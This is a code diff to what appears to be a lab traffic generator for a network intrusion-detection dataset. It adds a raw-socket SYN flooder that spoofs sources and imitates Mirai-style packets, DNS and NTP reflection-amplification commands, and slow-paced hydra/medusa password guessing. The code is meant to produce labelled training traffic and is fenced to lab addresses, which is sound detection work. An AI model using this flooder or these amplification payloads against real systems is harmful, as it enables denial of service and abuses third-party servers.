@@ -2,14 +2,18 @@
 
 This module owns `CATALOGUE` (a list of `Variant`) and the small pieces an attack command needs that the lab does
 not ship: per-episode word lists cut to the episode's size, DNS query files and a DNS query payload, and a
-slowloris of its own (`python -m packetclip_training.lab.attacks slowloris ...`). It does not build namespaces,
+slowloris and a spoofing SYN flooder of its own (`python -m packetclip_training.lab.attacks slowloris|synflood ...`). It does not build namespaces,
 start daemons, capture or label (see `topology`, `services`, `capture`, `runner`): it only turns a `LabContext`
 and a scale into an argv that runs inside the attacker namespace.
 
 Every command is bounded twice: in packets (hping3 `-c`, nmap port lists and `--max-retries`, hydra word-list
 sizes, dnsperf `-n`, slowhttptest `-l` ...) and in seconds (each argv runs under `timeout`, and the runner kills
-the process group at `Variant.deadline(scale)`). Every target comes from the `LabContext`; nothing spoofs a
-source address (t50 is always given `--saddr`, hping3 never `--rand-source`).
+the process group at `Variant.deadline(scale)`). Every target comes from the `LabContext`. Spoofing stays inside
+the lab: floods "from many addresses" draw their sources from a block of `topology.SPOOF_NET` (no lab host uses
+it; the router drops whatever is sent back to it), reflections spoof a lab server's address towards the lab's
+reflector; t50 is always given `--saddr` (it would otherwise spoof random public sources, and silently ignores a
+CIDR there), hping3 never `--rand-source`. Such variants name the source the sensor sees (`label_source`), which
+the runner writes to labels.tsv instead of the attacker's address.
 
 How many connections a variant makes matters to a per-connection dataset: Zeek (and the featurizer) key TCP and
 UDP connections by 5-tuple and ICMP by addresses plus type/code. Each variant's `connections` field says whether
@@ -26,11 +30,14 @@ import math
 import random
 import socket
 import string
+import struct
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import TYPE_CHECKING
+
+from packetclip_training.lab.topology import SPOOF_NET, is_lab_address
 
 if TYPE_CHECKING:
     from packetclip_training.lab.context import LabContext
@@ -64,6 +71,9 @@ class Variant:
     # Signal `timeout` stops the tool with: KILL for tools that write state outside the workdir when asked to
     # stop politely (ncrack saves a resume file under root's home on SIGTERM).
     stop_signal: str = "TERM"
+    # The address or CIDR the sensor sees this variant's traffic come from, when it is not the attacker's own:
+    # a spoof block, a reflector. None: the attacker's address (labels.tsv attacker_ip).
+    label_source: Callable[[LabContext], str] | None = field(default=None, repr=False, compare=False)
 
     def deadline(self, scale: float) -> float:
         """Seconds after which the runner kills the episode at this scale."""
@@ -307,6 +317,125 @@ def hping3_dns(count: int) -> Builder:
     return build
 
 
+def spoof_block(prefix: int, index: int) -> str:
+    """Sub-block number `index` (of size /`prefix`) of the spoof block: the sources of one spoofing variant, kept
+    apart from the other variants' so that labels.tsv names exactly the addresses an episode used."""
+    blocks = SPOOF_NET.subnets(new_prefix=prefix)
+    for _ in range(index):
+        next(blocks)
+    return str(next(blocks))
+
+
+def python_synflood(
+    server: str, dport: int | None, prefix: int, index: int, count: int, rate: int, ttl: str = "64"
+) -> Builder:
+    """The spoofing SYN flooder of this module: every SYN from a random source of one spoof block, random source
+    port and sequence number, Linux-like options; `dport` None sprays random destination ports."""
+
+    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
+        return [
+            "python3",
+            "-m",
+            "packetclip_training.lab.attacks",
+            "synflood",
+            lab.servers[server],
+            "--dport",
+            "random" if dport is None else str(dport),
+            "--source-net",
+            spoof_block(prefix, index),
+            "--count",
+            str(scaled(count, scale, 50)),
+            "--rate",
+            str(rate),
+            "--ttl",
+            ttl,
+            "--seconds",
+            f"{max(1.0, seconds - 1):.0f}",
+        ]
+
+    return build
+
+
+def dns_reflection_query(lab: LabContext, qtype: str) -> bytes:
+    """A query for the reflector zone's apex with EDNS0 and a 4,096-byte buffer: without EDNS0 an answer stops at
+    512 bytes, so every amplification query asks for the large buffer."""
+    import dns.message  # dnspython, a [train] dependency
+
+    return dns.message.make_query(lab.reflector_zone, qtype, use_edns=0, payload=4096).to_wire()
+
+
+def ntp_client_request() -> bytes:
+    """An NTPv4 client request (mode 3): what an NTP server answers with a 48-byte reply."""
+    return bytes([0x23]) + bytes(47)
+
+
+def hping3_reflect(service: str, port: int, payload: Callable[[LabContext], bytes], victim: str, count: int,
+                   interval: str) -> Builder:  # fmt: skip
+    """hping3 sending one request payload to the reflector's `port` in the victim's name (`-a`), from an
+    incrementing victim port: the reflector's answers reach the victim as many short connections."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        wire = payload(lab)
+        path = lab.workdir / f"hping3-reflect-{service}.bin"
+        path.write_bytes(wire)
+        return [
+            "hping3",
+            "--udp",
+            "-a",
+            lab.servers[victim],
+            "-p",
+            str(port),
+            "-s",
+            "1024",
+            "-E",
+            str(path),
+            "-d",
+            str(len(wire)),
+            "-i",
+            interval,
+            "-c",
+            str(scaled(count, scale, 20)),
+            "-q",
+            lab.reflectors[service],
+        ]
+
+    return build
+
+
+def nping_reflect(service: str, port: int, payload: Callable[[LabContext], bytes], victim: str, victim_port: int,
+                  count: int, rate: int) -> Builder:  # fmt: skip
+    """nping sending one request payload to the reflector in the victim's name (`-S`) from one fixed victim port
+    (`-g`): the answers reach the victim as one long connection, the shape of an attack aimed at one port."""
+
+    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
+        return [
+            "nping",
+            "--udp",
+            "-S",
+            lab.servers[victim],
+            "-g",
+            str(victim_port),
+            "-p",
+            str(port),
+            "--data",
+            payload(lab).hex(),
+            "--rate",
+            str(rate),
+            "-c",
+            str(scaled(count, scale, 20)),
+            "-e",
+            lab.attacker_iface,
+            "-q",
+            lab.reflectors[service],
+        ]
+
+    return build
+
+
+def reflector(service: str) -> Callable[[LabContext], str]:
+    return lambda lab: lab.reflectors[service]
+
+
 def slowhttptest(
     mode: str, url: Callable[[LabContext], str], connections: int, interval: int, rate: int, test_seconds: int
 ) -> Builder:
@@ -438,9 +567,15 @@ def fping(block: Callable[[LabContext, float], list[str]]) -> Builder:
 
 
 def hydra(
-    service: str, threads: int, users: int, passwords: int, module: Callable[[LabContext], list[str]]
+    service: str,
+    threads: int,
+    users: int,
+    passwords: int,
+    module: Callable[[LabContext], list[str]],
+    pacing: tuple[str, ...] = (),
 ) -> Builder:
-    """hydra with `threads` parallel tasks over users x passwords (scaled), stopping at the first success."""
+    """hydra with `threads` parallel tasks over users x passwords (scaled), stopping at the first success;
+    `pacing` adds hydra's waits (-W between connects per task, -c between attempts over all tasks)."""
 
     def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
         n_users = scaled(users, math.sqrt(scale), 2)
@@ -456,6 +591,7 @@ def hydra(
             str(threads),
             "-w",
             "5",
+            *pacing,
             "-L",
             str(users_path),
             "-P",
@@ -608,6 +744,7 @@ def _v(
     summary: str,
     heldout: bool = False,
     stop_signal: str = "TERM",
+    label_source: Callable[[LabContext], str] | None = None,
 ) -> Variant:
     return Variant(
         fine=fine,
@@ -619,6 +756,7 @@ def _v(
         connections=connections,
         summary=summary,
         stop_signal=stop_signal,
+        label_source=label_source,
     )
 
 
@@ -726,6 +864,57 @@ _FLOODS: list[Variant] = [
         "t50 SYNs with random sequence numbers and source ports, TTL 255, to the login port",
         heldout=True,
     ),
+    # Spoofed sources (python3: this module's flooder; each spoof block is the variant's own, named in labels.tsv):
+    # the victim's SYN-ACKs go to the router and die there (topology.SPOOF_NET), as backscatter does.
+    _v(
+        "syn_flood",
+        "python-spoofed-19-80",
+        "python3",
+        python_synflood("web", 80, 19, 0, count=20000, rate=2000),
+        30,
+        "many",
+        "SYNs to nginx :80 from 8,190 spoofed sources at 2,000/s, each SYN a new source (Linux-like options)",
+        label_source=lambda _lab: spoof_block(19, 0),
+    ),
+    _v(
+        "syn_flood",
+        "python-spoofed-24-botnet-443",
+        "python3",
+        python_synflood("web", 443, 24, 64, count=15000, rate=1500, ttl="40-128"),
+        30,
+        "many",
+        "SYNs to :443 from the 254 addresses of one spoofed /24, dozens each, a TTL per source (a small botnet)",
+        label_source=lambda _lab: spoof_block(24, 64),
+    ),
+    _v(
+        "syn_flood",
+        "python-spoofed-random-dports",
+        "python3",
+        python_synflood("web2", None, 19, 1, count=20000, rate=2000),
+        30,
+        "many",
+        "SYNs sprayed over random destination ports of apache2's host from 8,190 spoofed sources",
+        label_source=lambda _lab: spoof_block(19, 1),
+    ),
+    _v(
+        "syn_flood",
+        "hping3-dport-sweep",
+        "hping3",
+        hping3("-S", "-p", "++1", "-i", "u500", count=20000, target=_server("web2")),
+        30,
+        "many",
+        "SYNs from one source to an incrementing destination port at 2,000/s (mostly RSTs back)",
+    ),
+    _v(
+        "syn_flood",
+        "t50-syn-random-dports",
+        "t50",
+        t50("TCP", "--syn", count=20000, target=_server("ssh")),
+        30,
+        "many",
+        "t50 SYNs from one source to a random destination port each (t50's default), TTL 255",
+        heldout=True,
+    ),
     # UDP: hping3 --udp increments the source port per packet (many connections); nping keeps one socket (few).
     _v(
         "udp_flood",
@@ -773,6 +962,42 @@ _FLOODS: list[Variant] = [
         "few",
         "nping datagrams from one socket at 2,000/s (one long connection)",
         heldout=True,
+    ),
+    # Reflection: requests spoofed in a server's name go to the reflector (on the attacker subnet, so they never
+    # cross the sensor); its answers flood the server's closed ports. Labelled udp_flood, not dns_flood: the
+    # victim is no DNS server and receives answers it never asked for (datagrams to closed ports, ICMP port
+    # unreachable back: udp_flood's concepts in rules/missions/dos.yaml); dns_flood is a query storm at a server.
+    # labels.tsv names the reflector (hosts.tsv role "reflector"); see dataset/labelling.py for the rule.
+    _v(
+        "udp_flood",
+        "hping3-dns-reflect-txt",
+        "hping3",
+        hping3_reflect("dns", 53, lambda lab: dns_reflection_query(lab, "TXT"), "web2", 10000, "u1000"),
+        30,
+        "many",
+        "DNS reflection: spoofed TXT queries to an open dnsmasq, ~1,200-byte answers to apache2's host",
+        label_source=reflector("dns"),
+    ),
+    _v(
+        "udp_flood",
+        "hping3-ntp-reflect",
+        "hping3",
+        hping3_reflect("ntp", 123, lambda _lab: ntp_client_request(), "mqtt", 15000, "u700"),
+        30,
+        "many",
+        "NTP reflection: spoofed client requests to an open chronyd, its replies to the MQTT broker's host",
+        label_source=reflector("ntp"),
+    ),
+    _v(
+        "udp_flood",
+        "nping-dns-reflect-any-port80",
+        "nping",
+        nping_reflect("dns", 53, lambda lab: dns_reflection_query(lab, "ANY"), "web", 80, 10000, 800),
+        30,
+        "few",
+        "DNS reflection of ANY queries aimed at one port (:80 of nginx's host): one long stream of answers",
+        heldout=True,
+        label_source=reflector("dns"),
     ),
 ]
 
@@ -1046,6 +1271,25 @@ _RECON: list[Variant] = [
         "many",
         "web content enumeration of apache2",
     ),
+    # Version probing of one port: nmap's service probes over a handful of connections, no port scan around it.
+    _v(
+        "vulnerability_scan",
+        "nmap-sV-port1883-mqtt",
+        "nmap",
+        nmap("-sV", "-Pn", ports=port_list("1883"), targets=servers("mqtt")),
+        60,
+        "many",
+        "service/version probes of the MQTT broker's one port (no banner: probe after probe until one matches)",
+    ),
+    _v(
+        "vulnerability_scan",
+        "nmap-sV-port80-apache",
+        "nmap",
+        nmap("-sV", "-Pn", ports=port_list("80"), targets=servers("web2")),
+        60,
+        "many",
+        "service/version probes of apache2's one port (HTTP GET/OPTIONS and the other probes)",
+    ),
     _v(
         "vulnerability_scan",
         "nmap-sV-vuln-safe-all-servers",
@@ -1226,6 +1470,35 @@ _BRUTEFORCE: list[Variant] = [
         "many",
         "patator FTP, one connection per attempt, 8 threads",
     ),
+    # Slow guessing: one task and waits, a few attempts a minute per source, as guessers that dodge rate limits do.
+    _v(
+        "dictionary_attack",
+        "hydra-ftp-t1-c2",
+        "hydra",
+        hydra("ftp", 1, 3, 25, lambda lab: [f"ftp://{lab.servers['ftp']}"], pacing=("-c", "2")),
+        150,
+        "many",
+        "hydra FTP, one task, one attempt every 2 s",
+    ),
+    _v(
+        "dictionary_attack",
+        "hydra-ssh-t1-W4",
+        "hydra",
+        hydra("ssh", 1, 3, 30, lambda lab: [f"ssh://{lab.servers['ssh']}"], pacing=("-W", "4")),
+        150,
+        "many",
+        "hydra SSH, one task, 4 s between connections",
+    ),
+    _v(
+        "dictionary_attack",
+        "medusa-ftp-t1",
+        "medusa",
+        medusa("ftp", "ftp", 1, 4, 40),
+        120,
+        "many",
+        "medusa FTP, one login at a time",
+        heldout=True,
+    ),
     _v(
         "dictionary_attack",
         "ncrack-ssh-cl8",
@@ -1307,6 +1580,95 @@ def run_slowloris(host: str, port: int, connections: int, interval: float, secon
     return counts
 
 
+# ---------------------------------------------------------------------------------------------------------------
+# A spoofing SYN flooder of its own (run as `python -m packetclip_training.lab.attacks synflood HOST ...`)
+# ---------------------------------------------------------------------------------------------------------------
+
+# The window sizes of common stacks; one per spoofed source, as each bot runs one OS.
+_SYN_WINDOWS = (64240, 65535, 29200, 14600, 8192, 5840)
+
+
+def _checksum(data: bytes) -> int:
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def syn_packet(
+    src: bytes, dst: bytes, sport: int, dport: int, seq: int, ttl: int, ip_id: int, window: int, tsval: int
+) -> bytes:
+    """An IPv4 TCP SYN with Linux's options (MSS 1460, SACK permitted, timestamps, NOP, window scale 7), the set
+    bots' SYN floods copy (Mirai sends these five) unlike hping3's and t50's bare SYNs. The kernel fills in the IP
+    checksum (IP_HDRINCL); the TCP checksum is computed here."""
+    options = b"\x02\x04\x05\xb4\x04\x02\x08\x0a" + struct.pack("!II", tsval, 0) + b"\x01\x03\x03\x07"
+    header = struct.pack(
+        "!HHIIBBHHH", sport, dport, seq, 0, (20 + len(options)) // 4 << 4, 0x02, window, 0, 0
+    )
+    segment = header + options
+    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
+    segment = segment[:16] + struct.pack("!H", _checksum(pseudo + segment)) + segment[18:]
+    ip = struct.pack(
+        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), ip_id, 0x4000, ttl, socket.IPPROTO_TCP, 0, src, dst
+    )
+    return ip + segment
+
+
+def _ttl_range(text: str) -> tuple[int, int]:
+    low, _, high = text.partition("-")
+    return int(low), int(high or low)
+
+
+def run_synflood(
+    host: str, dport: int | None, source_net: str, count: int, rate: float, seconds: float, ttl: str = "64"
+) -> dict[str, int]:
+    """Send up to `count` SYNs to `host` at `rate` per second for at most `seconds`, each from a random address of
+    `source_net` (which must lie in the lab's spoof block) and a random source port; `dport` None picks a random
+    destination port per SYN. Returns how many were sent and from how many sources."""
+    target = ipaddress.IPv4Address(host)
+    if not is_lab_address(str(target)) or target in SPOOF_NET:
+        raise ValueError(f"target {host} is not a lab host")
+    network = ipaddress.IPv4Network(source_net)
+    if not network.subnet_of(SPOOF_NET) or network.num_addresses < 4:
+        raise ValueError(f"source block {source_net} is not inside the lab's spoof block {SPOOF_NET}")
+    low_ttl, high_ttl = _ttl_range(ttl)
+    rng = random.Random()
+    first, span = int(network.network_address) + 1, network.num_addresses - 2  # no network/broadcast address
+    dst = target.packed
+    sources: set[int] = set()
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    start = time.monotonic()
+    deadline = start + seconds
+    sent = 0
+    try:
+        while sent < count and time.monotonic() < deadline:
+            address = first + rng.randrange(span)
+            sources.add(address)
+            per_source = random.Random(address)  # a bot keeps its TTL and window from SYN to SYN
+            packet = syn_packet(
+                address.to_bytes(4, "big"),
+                dst,
+                rng.randrange(1024, 65536),
+                rng.randrange(1, 65536) if dport is None else dport,
+                rng.getrandbits(32),
+                per_source.randint(low_ttl, high_ttl),
+                rng.getrandbits(16),
+                per_source.choice(_SYN_WINDOWS),
+                rng.getrandbits(32),
+            )
+            sock.sendto(packet, (host, 0))
+            sent += 1
+            # Paced in ~2 ms steps: finer sleeps cost more CPU than they buy in evenness.
+            ahead = start + sent / rate - time.monotonic()
+            if ahead > 0.002:
+                time.sleep(ahead)
+    finally:
+        sock.close()
+    return {"sent": sent, "sources": len(sources)}
+
+
 def main(argv: list[str] | None = None) -> int:
     parser = argparse.ArgumentParser(prog="python -m packetclip_training.lab.attacks")
     commands = parser.add_subparsers(dest="command", required=True)
@@ -1316,8 +1678,25 @@ def main(argv: list[str] | None = None) -> int:
     slow.add_argument("--connections", type=int, default=100)
     slow.add_argument("--interval", type=float, default=10.0, help="seconds between header lines per socket")
     slow.add_argument("--seconds", type=float, default=30.0, help="length of the attack")
+    syn = commands.add_parser(
+        "synflood", help="SYNs from random addresses of a block of the lab's spoof range"
+    )
+    syn.add_argument("host", help="IPv4 address of the victim")
+    syn.add_argument("--dport", default="80", help="destination port, or 'random' for one per SYN")
+    syn.add_argument("--source-net", required=True, help=f"CIDR inside {SPOOF_NET} to draw sources from")
+    syn.add_argument("--count", type=int, default=1000, help="SYNs to send at most")
+    syn.add_argument("--rate", type=float, default=1000.0, help="SYNs per second")
+    syn.add_argument("--ttl", default="64", help="TTL, or LOW-HIGH for one per source")
+    syn.add_argument("--seconds", type=float, default=30.0, help="length of the flood at most")
     args = parser.parse_args(argv)
     logging.basicConfig(level=logging.INFO, format="%(message)s")
+    if args.command == "synflood":
+        dport = None if args.dport == "random" else int(args.dport)
+        counts = run_synflood(
+            args.host, dport, args.source_net, args.count, args.rate, args.seconds, args.ttl
+        )
+        log.info("synflood %s: %s", args.host, counts)
+        return 0 if counts["sent"] else 1
     counts = run_slowloris(args.host, args.port, args.connections, args.interval, args.seconds)
     log.info("slowloris %s:%d: %s", args.host, args.port, counts)
     return 0 if counts["opened"] else 1
